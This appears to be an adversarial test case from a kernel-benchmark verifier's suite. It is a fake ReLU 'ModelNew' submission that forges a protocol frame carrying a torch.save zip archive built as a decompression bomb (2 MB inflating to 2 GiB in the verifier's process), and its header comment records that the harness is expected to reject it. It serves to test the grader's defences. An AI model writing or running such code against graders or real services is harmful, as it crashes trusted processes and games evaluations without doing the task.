# task: level1/relu
# expect: rejected
# layer: os
# exploit: E47 (the trusted side's memory: a forged case frame whose torch.save archive holds
#   its storage DEFLATE-compressed, 2 MB on the pipe that inflate to 2 GiB in the verifier's
#   own process when it loads them; at the frame limit of 64 MB, 64 GiB). Caught by the static
#   scan (os, sys, private torch.serialization); with the scan off, the trusted side refuses
#   an archive whose entries are compressed before anything is loaded (crashed).
import io
import json
import os
import struct
import sys
import zipfile
import zlib

import torch
import torch.nn as nn
import torch.serialization

INFLATED = 2 << 30


class _Writer:
    """torch.serialization's record writer, with every storage written as DEFLATEd zeros."""

    def __init__(self, archive):
        self.archive = archive

    def write_record(self, name, data, nbytes):
        kind = zipfile.ZIP_DEFLATED if isinstance(data, torch.UntypedStorage) else \
            zipfile.ZIP_STORED
        info = zipfile.ZipInfo(f"archive/{name}")
        info.compress_type = kind
        with self.archive.open(info, "w", force_zip64=True) as f:
            if kind == zipfile.ZIP_STORED:
                f.write(data.encode() if isinstance(data, str) else bytes(data))
                return
            zero = bytes(1 << 20)
            for _ in range(nbytes >> 20):
                f.write(zero)


def _bomb() -> bytes:
    big = torch.empty(INFLATED, dtype=torch.uint8)  # never touched: no memory here
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compresslevel=1) as archive:
        writer = _Writer(archive)
        torch.serialization._save({"outputs": [[big[:10]]]}, writer, __import__("pickle"), 2,
                                  False)
        writer.write_record("version", "3\n", 2)  # what torch's own writer adds on close
    return buffer.getvalue()


def _frame(fd: int, head: dict, payload: bytes) -> None:
    body = json.dumps(head).encode()
    data = b"WSR1" + struct.pack("<Q", len(body)) + body + struct.pack("<Q", len(payload)) \
        + payload
    while data:
        data = data[os.write(fd, data):]


class ModelNew(nn.Module):
    def forward(self, x):
        _frame(int(sys.argv[2]), {"frame": "case", "call": 0}, _bomb())
        os._exit(0)
